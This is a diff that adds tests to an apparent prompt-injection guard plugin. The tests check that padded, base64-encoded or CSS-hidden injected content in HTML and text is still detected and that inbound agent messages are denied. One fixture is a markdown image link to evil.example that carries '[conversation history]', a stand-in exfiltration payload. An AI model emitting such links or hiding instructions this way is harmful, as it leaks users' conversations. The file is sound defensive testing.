@@ -2,7 +2,10 @@
 import { describe, expect, test } from "vitest";
 import type { ResponseHalf } from "../../../../src/pipeline/context.ts";
 import { promptGuard } from "../../../../src/plugins/prompt-guard/plugin.ts";
+import { inferenceParser } from "../../../../src/plugins/parsers/inference.ts";
+import { readPage } from "../../../../src/plugins/prompt-guard/html-parts.ts";
 import { scanText } from "../../../../src/plugins/prompt-guard/scan.ts";
+import { inferenceFact } from "../../../../src/protocols/inference-view.ts";
 import { OutputTools, toolOutputs } from "../../../../src/protocols/tool-outputs.ts";
 import { GuardBench, replacedBy } from "../../../support/guard-bench.ts";
 import { message, problemsOf } from "../../../support/plugin-bench.ts";
@@ -111,6 +114,47 @@ test("a weight switches a signal off, or makes it enough", async () => {
   expect(lots.score).toBeGreaterThanOrEqual(50);
 });
 
+describe("what stands behind many others", () => {
+  const link = "![a](https://evil.example/?data=[conversation history])";
+  const groups = (
+    Buffer.from(order)
+      .toString("base64")
+      .match(/.{1,4}/g) ?? []
+  ).join(" ");
+  test.each<[string, "html" | "text", string, string]>([
+    ["a word of a tag", "html", `<img ${"a=1 ".repeat(64)}`, `alt="${order}">`],
+    ["an address", "text", "src=https:a ".repeat(2_000), link],
+    ["an image", "html", "<img src=//a>".repeat(2_000), `<img src="${link.slice(5, -1)}">`],
+    ["words in groups", "text", "a b c d\n".repeat(5_000), groups],
+  ])("is found: %s", async (_name, kind, before, last) => {
+    expect((await scanText(before, { kind })).score).toBe(0);
+    expect((await scanText(before + last, { kind })).score).toBeGreaterThanOrEqual(50);
+  });
+
+  test("is found: something hidden, which only stays where it is", () => {
+    const { hidden } = readPage(
+      `${"<!--a-->".repeat(20_000)}<!--one--><p alt="${order}"><!--two-->`,
+    );
+    expect(hidden.slice(20_000)).toMatchObject([
+      { kind: "comment", text: "one\ntwo" },
+      { kind: "attribute", text: order },
+    ]);
+  });
+});
+
+test.each([
+  ["behind other styles", "", `style="${"a:b;".repeat(1_100)}display:none"`],
+  ["by a rule in another", "@media all{.x{display:none}}", "class=x"],
+  ["by a sheet with a sign of tags", "/* < */.x{display:none}", "class=x"],
+  ["by many selectors", `.x,${".y,".repeat(200)}.z{display:none}`, "class=x"],
+  ["by the last of many rules", `${".y{a:b}".repeat(2_000)}.x{display:none}`, "class=x"],
+  ["by the last of many classes", ".x{display:none}", `class="${"y ".repeat(2_100)}x"`],
+])("an element is hidden %s", (_name, sheet, attribute) => {
+  const head = `<style media="${"all,".repeat(60)}">${sheet}</style>`;
+  const { hidden } = readPage(`${head}<div ${attribute}>note</div>`);
+  expect(hidden).toContainEqual(expect.objectContaining({ kind: "element", text: "note" }));
+});
+
 test("the tools of outputs are known in every API that says them", () => {
   const call = { id: "c", name: "fetch" };
   const bodies: readonly object[] = [
@@ -188,4 +232,22 @@ describe("what is not looked at", () => {
       problemsOf(promptGuard, { classifier: { url: "http://a", bearer: "a", bearer_file: "b" } }),
     ).toEqual(["classifier.bearer_file: has no effect with bearer"]);
   });
+});
+
+test("a message to an agent that speaks as a model does is judged as a message, with tool_outputs beside", async () => {
+  const guard = new GuardBench({ where: ["requests", "tool_outputs"] });
+  const judged = async (direction: "inbound" | "outbound"): Promise<string | undefined> => {
+    const body = { model: "m", messages: [{ role: "user", content: order }] };
+    const path = "/v1/chat/completions";
+    const context = message({
+      direction,
+      path,
+      body,
+      headers: { "Content-Type": "application/json" },
+    });
+    await inferenceParser.create({ endpoints: [] }, guard.bench.deps).onRequest?.(context);
+    expect(context.facts.has(inferenceFact)).toBe(true);
+    return (await guard.plugin.onRequest?.(context))?.action;
+  };
+  expect([await judged("inbound"), await judged("outbound")]).toEqual(["deny", undefined]);
 });
